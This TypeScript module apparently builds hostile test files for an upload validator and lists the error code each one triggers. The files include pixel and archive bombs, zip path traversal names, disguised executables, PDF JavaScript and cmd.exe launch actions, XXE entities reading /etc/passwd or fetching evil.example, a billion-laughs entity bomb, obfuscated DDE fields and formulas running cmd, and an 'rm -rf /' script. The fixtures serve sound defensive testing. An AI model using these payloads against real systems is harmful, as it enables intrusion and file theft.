import type { ProblemCode } from '../../domain/problems';
import { hostileZip, makeExe } from './archive';
import { hugeObjectStream, manyObjectStreams, nestedDoc, wideDoc } from './costly';
import { hostileLinks } from './links';
import type { HostileFile, MadeFile } from './make';
import { makeDocx, makeXlsx, pack, repack } from './office';
import { assemblePdf, makePdf, page } from './pdf';
import { makeGif, makeJpg, makePng } from './pictures';

const xml = (body: string): Buffer => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${body}`);
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
/** An entity that stands for another one, ten times over, nine times one in another. */
const BOMB = `<!DOCTYPE w [${Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i} "${`&e${i - 1};`.repeat(10)}">`).join('')}]>`;

const DOCTYPES = [
  '<!DOCTYPE w><w/>',
  '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w/>',
  '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>',
  `${BOMB}<w>&e8;</w>`,
  '<!-- a --><!DOCTYPE w><w/>',
  '\n\n<!DOCTYPE w><w/>',
];
const BROKEN = [
  '<w><a></w></a>',
  '<w><a></w>',
  '<w>',
  '</w>',
  '<w a=1/>',
  '<w a="1" a="2"/>',
  '<w>&unknown;</w>',
  '<w>&#0;</w>',
  '<w>\u0001</w>',
  '<w/><w/>',
  'text',
  '<w a="<"/>',
  '<w>]]></w>',
  '<w><!-- a -- b --></w>',
  '<1w/>',
];

const docxWith = async (parts: Record<string, string | Buffer>): Promise<MadeFile> => ({
  name: 'План.docx',
  bytes: repack(await makeDocx(), (all) => {
    for (const [name, content] of Object.entries(parts)) all[name] = Buffer.from(content as string);
  }),
});
const xlsxWith = async (parts: Record<string, string | Buffer>): Promise<MadeFile> => ({
  name: 'Журнал.xlsx',
  bytes: repack(await makeXlsx(), (all) => {
    for (const [name, content] of Object.entries(parts)) all[name] = Buffer.from(content as string);
  }),
});

/** A field of Word whose instruction is cut into these runs. */
export const field = (...runs: string[]): string =>
  `<w:p ${W}><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

const DDE_FIELDS = [
  field('DDE cmd "/c calc"'),
  field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
  field('D', 'D', 'E', ' cmd "/c calc"'),
  field('dde', 'auto cmd'),
  field(' &#68;DE cmd'),
  field('"DDE" cmd'),
  `<w:p ${W}><w:fldSimple w:instr="DDEAUTO cmd"><w:r/></w:fldSimple></w:p>`,
  `<w:p ${W}><w:fldSimple w:instr="  dde cmd"/></w:p>`,
  `<w:p ${W}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE </w:instrText></w:r>${field('DDE cmd').replace(/^<w:p[^>]*>|<\/w:p>$/g, '')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  `<w:p ${W}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r></w:p>`,
  `<w:p ${W}><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>`,
  `<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDE cmd"/></x:p>`,
];
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const DDE_FORMULAS = [
  `<worksheet ${S}><sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>`,
  `<worksheet ${S}><sheetData><row><c><f>+cmd|&apos;/c calc&apos;!A0</f></c></row></sheetData></worksheet>`,
  `<worksheet ${S}><sheetData><row><c><f>"a|b"&amp;MSEXCEL|'\\..\\cmd.exe /c calc'!''</f></c></row></sheetData></worksheet>`,
  `<worksheet ${S}><sheetData><row><c><f><![CDATA[cmd|'/c calc'!A0]]></f></c></row></sheetData></worksheet>`,
  `<worksheet ${S}><dataValidations><dataValidation><formula1>cmd|'/c'!A0</formula1></dataValidation></dataValidations></worksheet>`,
  `<workbook ${S}><definedNames><definedName name="a">cmd|'/c calc'!A0</definedName></definedNames></workbook>`,
  `<x:worksheet xmlns:x="x"><x:f>cmd|'/c calc'!A0</x:f></x:worksheet>`,
];
const DDE_LINK = `<externalLink ${S}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>`;

/** A PNG, GIF or JPEG of the test picture that claims another size. */
export function resizedPng(width: number, height: number): Buffer {
  return makePng({ width, height });
}
export function resizedGif(width: number, height: number, at: 'screen' | 'frame'): Buffer {
  const bytes = Buffer.from(makeGif());
  const from = at === 'screen' ? 6 : bytes.indexOf(0x2c, 13 + 3 * 128) + 5;
  bytes.writeUInt16LE(width, from);
  bytes.writeUInt16LE(height, from + 2);
  return bytes;
}
export function resizedJpg(width: number, height: number): Buffer {
  const bytes = Buffer.from(makeJpg());
  const frame = bytes.indexOf('ffc0', 0, 'hex');
  bytes.writeUInt16BE(height, frame + 5);
  bytes.writeUInt16BE(width, frame + 7);
  return bytes;
}

type Refused = [trick: string, file: MadeFile, params?: HostileFile['params'], code?: ProblemCode];

const pictures = async (): Promise<Refused[]> => {
  const png = (width: number, height: number) => ({ name: 'Фото.png', bytes: resizedPng(width, height) });
  const large = { reason: 'pixels' };
  const none = { reason: 'structure' };
  return [
    ['png of 900 megapixels', png(30_000, 30_000), large, 'FILE_TOO_LARGE'],
    ['png of 100,010,000 points', png(10_001, 10_000), large, 'FILE_TOO_LARGE'],
    ['png as wide as the earth', png(2 ** 31 - 1, 1), large, 'FILE_TOO_LARGE'],
    ['png that claims 2^31', png(2 ** 31, 2 ** 31), large, 'FILE_TOO_LARGE'],
    ['png of no width', png(0, 100), none],
    ['png of no height', png(100, 0), none],
    ['jpg of 65,500 x 65,500', { name: 'a.jpg', bytes: resizedJpg(65_500, 65_500) }, large, 'FILE_TOO_LARGE'],
    ['jpg of no width', { name: 'a.jpg', bytes: resizedJpg(0, 64) }, none],
    ['jpg whose height comes later', { name: 'a.jpg', bytes: resizedJpg(64, 0) }, none],
    [
      'a second jpg of 4,200 megapixels behind the first',
      { name: 'a.jpg', bytes: Buffer.concat([makeJpg(), resizedJpg(65_000, 65_000)]) },
      large,
      'FILE_TOO_LARGE',
    ],
    ['gif with a screen of 65,535 x 65,535', { name: 'a.gif', bytes: resizedGif(65_535, 65_535, 'screen') }, large, 'FILE_TOO_LARGE'],
    ['gif with a frame of 65,535 x 65,535', { name: 'a.gif', bytes: resizedGif(65_535, 65_535, 'frame') }, large, 'FILE_TOO_LARGE'],
    ['gif with a screen of no width', { name: 'a.gif', bytes: resizedGif(0, 64, 'screen') }, none],
    ['gif with a frame of no height', { name: 'a.gif', bytes: resizedGif(64, 0, 'frame') }, none],
    ['docx with a png of 900 megapixels', await docxWith({ 'word/media/image1.png': resizedPng(30_000, 30_000) }), large, 'FILE_TOO_LARGE'],
    [
      'docx with a jpg of 4,290 megapixels under another name',
      await docxWith({ 'word/media/image1.dat': resizedJpg(65_500, 65_500) }),
      large,
      'FILE_TOO_LARGE',
    ],
    [
      'xlsx with a gif of 4,290 megapixels',
      await xlsxWith({ 'xl/media/image1.gif': resizedGif(65_535, 65_535, 'screen') }),
      large,
      'FILE_TOO_LARGE',
    ],
    [
      'zip with a png of 900 megapixels',
      { name: 'a.zip', bytes: pack({ 'Фото.png': resizedPng(30_000, 30_000) }) },
      { ...large, entry: 'Фото.png' },
      'FILE_TOO_LARGE',
    ],
  ];
};

const archives = (): Refused[] => {
  const zip = (trick: string, name: string, reason: string): Refused => [
    trick,
    { name: 'a.zip', bytes: pack({ [name]: makePng() }) },
    { reason },
    'FILE_ARCHIVE_UNSAFE',
  ];
  return [
    zip('a name of 256 bytes', `${'a'.repeat(252)}.png`, 'longPath'),
    zip('a name of 128 Russian letters', `${'ы'.repeat(126)}.png`, 'longPath'),
    zip('a folder of 2 kB', `${'a'.repeat(2_048)}/a.png`, 'longPath'),
    zip('many folders', `${'папка/'.repeat(100)}a.png`, 'longPath'),
    zip('a folder of 256 bytes behind backslashes', `b\\${'a'.repeat(256)}\\a.png`, 'longPath'),
    ...['../../a.png', 'a/../../b.png', '..\\..\\a.png', '/a.png', '\\a.png', '\\\\host\\a.png', 'c:a.png', 'C:/a.png', 'a/..', '..'].map(
      (name) => zip(`the path ${name}`, name, 'path'),
    ),
    ...['a\u0000.png', 'a\n.png', 'a\u202egnp.exe.png', 'a\u2066.png', '\u001b[31ma.png'].map((name) =>
      zip(`the path ${JSON.stringify(name)}`, name, 'path'),
    ),
    ...['exe', 'scr', 'js', 'vbs', 'lnk', 'bat', 'hta', 'jar', 'iso', 'msi', 'ps1', 'dll', 'svg', 'html', 'docm', 'xlsm', 'rtf'].map(
      (kind): Refused => [
        `zip with a .${kind}`,
        { name: 'a.zip', bytes: pack({ 'a.png': makePng(), [`b.${kind}`]: makeExe() }) },
        { entry: `b.${kind}` },
        'FILE_TYPE_NOT_ALLOWED',
      ],
    ),
    ...['pdf', 'docx', 'doc', 'xlsx', 'xls', 'jpg', 'png', 'gif'].map(
      (kind): Refused => [
        `zip with a program named .${kind}`,
        { name: 'a.zip', bytes: pack({ [`b.${kind}`]: makeExe() }) },
        { entry: `b.${kind}`, actual: 'exe' },
        'FILE_TYPE_MISMATCH',
      ],
    ),
    [
      'zip in a folder in a zip',
      { name: 'a.zip', bytes: pack({ 'b/c.ZIP': hostileZip.nested() }) },
      { reason: 'nested' },
      'FILE_ARCHIVE_UNSAFE',
    ],
  ];
};

const disguises = async (): Promise<Refused[]> => {
  const kinds: [string, Buffer][] = [
    ['exe', makeExe()],
    ['pdf', await makePdf()],
    ['docx', await makeDocx()],
    ['xlsx', await makeXlsx()],
    ['png', makePng()],
    ['jpg', makeJpg()],
    ['gif', makeGif()],
    ['html', Buffer.from('<html><script>alert(1)</script></html>')],
    ['script', Buffer.from('#!/bin/sh\nrm -rf /')],
    ['archive', Buffer.from('Rar!\x1a\x07\x00 and so on')],
  ];
  const named = ['pdf', 'docx', 'xlsx', 'jpg', 'png', 'gif'];
  return named.flatMap((extension) =>
    kinds
      .filter(([actual]) => actual !== extension)
      .map(
        ([actual, bytes]): Refused => [
          `${actual} named ${extension}`,
          { name: `a.${extension}`, bytes },
          { extension, actual },
          'FILE_TYPE_MISMATCH',
        ],
      ),
  );
};

const pdfs = (): Refused[] => {
  const pdf = (trick: string, catalog: string, reason: string, ...more: string[]): Refused => [
    `pdf with ${trick}`,
    { name: 'a.pdf', bytes: assemblePdf([...page(catalog), ...more.map((dictionary) => ({ dictionary }))]) },
    { reason },
    'FILE_HAS_ACTIVE_CONTENT',
  ];
  const empty = (trick: string, pages: string): Refused => [
    trick,
    { name: 'a.pdf', bytes: assemblePdf([{ dictionary: '<< /Type /Catalog /Pages 2 0 R >>' }, { dictionary: pages }]) },
    { reason: 'noPages' },
  ];
  return [
    empty('pdf without pages', '<< /Type /Pages /Kids [] /Count 0 >>'),
    empty('pdf that says it has five pages and has none', '<< /Type /Pages /Kids [] /Count 5 >>'),
    pdf('a script in /AA', '/AA << /WC 5 0 R >> ', 'javascript', '<< /S /JavaScript /JS (1) >>'),
    pdf('a script in /Next', '/OpenAction << /S /GoTo /D [3 0 R] /Next 5 0 R >> ', 'javascript', '<< /S /JavaScript /JS (1) >>'),
    pdf('a script as a stream', '/OpenAction 5 0 R ', 'javascript', '<< /S /JavaScript /JS 6 0 R >>'),
    pdf('an escaped launch', '/OpenAction 5 0 R ', 'launch', '<< /S /L#61unch /F (cmd.exe) >>'),
    pdf('a launch without blanks', '/OpenAction<</S/Launch/F(cmd.exe)>>', 'launch'),
    pdf('a film with a program', '', 'attachment', '<< /Type /Annot /Subtype /RichMedia >>'),
    pdf('an attachment as a note', '', 'attachment', '<< /Type /Annot /Subtype /FileAttachment /FS 6 0 R >>'),
    pdf('a door to an attached document', '/OpenAction 5 0 R ', 'attachment', '<< /S /GoToE /D [0 /Fit] >>'),
    pdf('a form that runs', '/AcroForm << /XFA 5 0 R >> ', 'form', '<< >>'),
    ['pdf of 501 object streams', { name: 'a.pdf', bytes: manyObjectStreams(501, 60) }, { reason: 'limits' }],
    [
      'pdf with an object stream of 21 MB',
      { name: 'a.pdf', bytes: hugeObjectStream(21 * 1024 * 1024) },
      { reason: 'unpacked' },
      'FILE_ARCHIVE_TOO_LARGE',
    ],
    ['doc of 33 nested folders', { name: 'a.doc', bytes: nestedDoc(33) }, { reason: 'limits' }],
    ['doc of 4,001 folders', { name: 'a.doc', bytes: wideDoc(4_001) }, { reason: 'limits' }],
  ];
};

/** Every oddity that must be refused beside those of `hostileFiles` and `hostileLinks`, with its reason. */
export async function oddFiles(): Promise<HostileFile[]> {
  const found: Refused[] = [...(await pictures()), ...archives(), ...(await disguises()), ...pdfs()];
  const places = ['word/document.xml', 'customXml/item1.xml', 'docProps/app.xml', 'word/media/drawing.svg'];
  for (const [index, body] of DOCTYPES.entries()) {
    const part = places[index % places.length] ?? '';
    const types = { '[Content_Types].xml': repackedTypes(await makeDocx()) };
    found.push([`docx with ${body.slice(0, 40)}`, await docxWith({ ...types, [part]: xml(body) }), { reason: 'doctype', part }]);
  }
  found.push(
    [
      'docx with a document type in its list of types',
      await docxWith({ '[Content_Types].xml': xml('<!DOCTYPE Types><Types/>') }),
      { reason: 'doctype' },
    ],
    [
      'docx with a document type in its links',
      await docxWith({ 'word/_rels/document.xml.rels': xml('<!DOCTYPE a><Relationships/>') }),
      { reason: 'doctype' },
    ],
    [
      'docx with a document type in UTF-16',
      await docxWith({ 'customXml/item1.xml': Buffer.from('\ufeff<!DOCTYPE w><w/>', 'utf16le') }),
      { reason: 'doctype' },
    ],
    [
      'xlsx with a document type in a drawing',
      await xlsxWith({ 'xl/drawings/vmlDrawing1.vml': '<!DOCTYPE xml><xml><br></xml>' }),
      { reason: 'doctype' },
    ],
    ['docx in UTF-7', await docxWith({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><w/>' }), { reason: 'xml' }],
    [
      'xlsx with a broken sheet',
      await xlsxWith({ 'xl/worksheets/sheet1.xml': xml('<worksheet><sheetData></worksheet>') }),
      { reason: 'xml', part: 'xl/worksheets/sheet1.xml' },
    ],
  );
  const remote = (await hostileLinks())[0]?.bytes ?? Buffer.alloc(0);
  const inside = async (bytes: Buffer) => docxWith({ 'word/embeddings/Microsoft_Word_Document1.docx': bytes });
  found.push(
    [
      'docx in a docx that loads a template',
      await inside(remote),
      { reason: 'remote', part: 'word/embeddings/Microsoft_Word_Document1.docx/word/_rels/settings.xml.rels' },
      'FILE_HAS_ACTIVE_CONTENT',
    ],
    [
      'the same under the name of a picture',
      await docxWith({ 'word/media/image1.png': remote }),
      { reason: 'remote' },
      'FILE_HAS_ACTIVE_CONTENT',
    ],
    ['docx in six docx', await nested(6), { reason: 'limits' }],
  );
  for (const body of BROKEN)
    found.push([
      `docx with ${JSON.stringify(body)}`,
      await docxWith({ 'word/document.xml': xml(body) }),
      { reason: 'xml', part: 'word/document.xml' },
    ]);
  for (const [index, body] of DDE_FIELDS.entries()) {
    const part = index % 2 ? 'word/document.xml' : 'word/footer8.xml';
    found.push([`docx with DDE ${index}`, await docxWith({ [part]: xml(body) }), { reason: 'dde', part }, 'FILE_HAS_ACTIVE_CONTENT']);
  }
  for (const [index, body] of DDE_FORMULAS.entries())
    found.push([
      `xlsx with DDE ${index}`,
      await xlsxWith({ 'xl/worksheets/sheet1.xml': xml(body) }),
      { reason: 'dde' },
      'FILE_HAS_ACTIVE_CONTENT',
    ]);
  found.push([
    'xlsx with a link to a program',
    await xlsxWith({ 'xl/externalLinks/externalLink1.xml': xml(DDE_LINK) }),
    { reason: 'dde' },
    'FILE_HAS_ACTIVE_CONTENT',
  ]);
  return found.map(([trick, file, params, code = 'FILE_DAMAGED']) => ({ ...file, trick, code, ...(params && { params }) }));
}

/** The list of types of a made docx, with SVG among them. */
function repackedTypes(docx: Buffer): string {
  let types = '';
  repack(docx, (parts) => {
    types = Buffer.from(parts['[Content_Types].xml'] ?? []).toString();
  });
  return types.replace('</Types>', '<Default Extension="svg" ContentType="image/svg+xml"/></Types>');
}

/** A document in a document in a document. */
async function nested(levels: number): Promise<MadeFile> {
  let file = await docxWith({});
  for (let i = 1; i < levels; i += 1) file = await docxWith({ 'word/embeddings/a.docx': file.bytes });
  return file;
}
